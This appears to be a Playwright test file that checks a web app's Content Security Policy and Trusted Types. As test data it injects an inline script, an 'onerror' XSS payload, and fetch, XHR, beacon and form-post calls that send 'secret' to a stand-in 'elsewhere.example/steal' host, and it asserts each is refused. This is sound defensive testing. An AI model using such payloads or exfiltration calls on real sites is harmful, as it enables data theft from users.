import type { Page } from "@playwright/test";
import { expect, hydrated, test, visit } from "#tests/support/fixtures.ts";
import { NOT_FOUND_MESSAGE, NOT_FOUND_PAGE, SCREENS } from "#tests/support/pages.ts";

const REFUSED = /Content Security Policy|Trusted(HTML|Script)|TrustedTypePolicy/;
// Playwright also reports requests that the policy blocks.
const STOPPED = /request to another site: https:\/\/elsewhere\.example\/steal/;

test.use({
  expectedMessages: [new RegExp([NOT_FOUND_MESSAGE, REFUSED, STOPPED].map(({ source }) => source).join("|"))],
});

test("no page violates its policy, and foreign inline code is blocked", async ({ page }) => {
  await recordViolations(page);
  for (const { path } of [...SCREENS, NOT_FOUND_PAGE]) {
    await visit(page, path);
    await page.evaluate(() => window.scrollTo({ top: document.body.scrollHeight, behavior: "instant" }));
    await expect(page.getByRole("contentinfo")).toBeInViewport();
    expect(await violations(page), path).toEqual([]);
  }

  const title = await page.title();
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.append("document.title = 'run'");
    const style = document.createElement("style");
    style.append("body { display: none }");
    document.head.append(script, style);
  });
  const refused = ["style-src-elem inline", "require-trusted-types-for trusted-types-sink"];
  await expect.poll(() => violations(page)).toEqual(refused);
  await expect(page).toHaveTitle(title);
  await expect(page.getByRole("banner")).toBeVisible();

  // Trusted Types block every conversion of text to markup or code, and no script can create a policy.
  for (const attempt of [
    () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>"),
    () => Object.assign(document.createElement("script"), { src: "/assets/other.js" }),
    () => Reflect.get(window, "trustedTypes").createPolicy("default", { createHTML: String }),
  ])
    await expect(page.evaluate(attempt)).rejects.toThrow("TypeError");
});

for (const [place, withHeader] of [
  ["in the header", true],
  ["in the page, without a header,", false],
] as const) {
  test(`the policy ${place} blocks every request from the application page`, {
    tag: "@smoke",
  }, async ({ page, baseURL }) => {
    await recordViolations(page);
    if (!withHeader) await removePolicyHeader(page);
    await visit(page, "/apply");
    const reached: string[] = [];
    await page.route(/steal/, (route) => {
      reached.push(route.request().url());
      return route.fulfill({ body: "" });
    });

    for (const site of [baseURL, "https://elsewhere.example"]) {
      expect(await tryToSend(page, `${site}/steal`)).toEqual(["fetch refused", "request refused"]);
      for (const attempt of [
        `connect-src ${site}/steal/fetch`,
        `connect-src ${site}/steal/request`,
        `connect-src ${site}/steal/beacon`,
        `form-action ${site}/steal/form`,
      ]) {
        await expect.poll(() => violations(page)).toContain(attempt);
      }
    }
    expect(reached).toEqual([]);
    expect(await page.evaluate(() => window.location.pathname)).toBe("/apply");
  });
}

/** Tries fetch, XMLHttpRequest, beacon and form post to a URL. */
function tryToSend(page: Page, address: string): Promise<string[]> {
  return page.evaluate(async (url) => {
    const fetched = await fetch(`${url}/fetch`, { method: "POST", body: "secret" }).then(
      () => "fetch sent",
      () => "fetch refused",
    );
    const requested = await new Promise<string>((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve("request sent");
      request.onerror = () => resolve("request refused");
      request.open("POST", `${url}/request`);
      request.send("secret");
    });
    navigator.sendBeacon(`${url}/beacon`, "secret");
    const form = document.createElement("form");
    form.method = "post";
    form.action = `${url}/form`;
    document.body.append(form);
    form.submit();
    return [fetched, requested];
  }, address);
}

async function removePolicyHeader(page: Page): Promise<void> {
  await page.route("/apply", async (route) => {
    const response = await route.fetch();
    const { "content-security-policy": policy, ...headers } = response.headers();
    expect(policy).toContain("connect-src 'none'");
    await route.fulfill({ response, headers });
  });
}

async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const found: string[] = [];
    Object.assign(window, { violations: found });
    document.addEventListener("securitypolicyviolation", (event) => {
      const violation = `${event.effectiveDirective} ${event.blockedURI}`;
      // The header and the page's own copy of the policy each report it.
      if (!found.includes(violation)) found.push(violation);
    });
  });
}

async function violations(page: Page): Promise<string[]> {
  await hydrated(page);
  return page.evaluate(() => (window as unknown as { violations: string[] }).violations);
}
